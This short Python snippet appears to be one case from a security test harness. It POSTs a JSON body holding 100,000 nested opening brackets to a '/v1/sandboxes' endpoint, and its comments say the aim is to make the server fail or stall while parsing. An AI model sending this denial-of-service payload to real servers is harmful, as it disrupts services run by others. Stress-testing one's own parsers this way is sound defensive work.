# aim: have the server fail, or think for long, about a body
# mechanism: JSON of lists in lists
# server: body
# plain: naive

def attack():
    body = b'{"metadata": ' + b"[" * 100_000
    ask("POST", "/v1/sandboxes", body, Content_Type="application/json")


judge(attack)
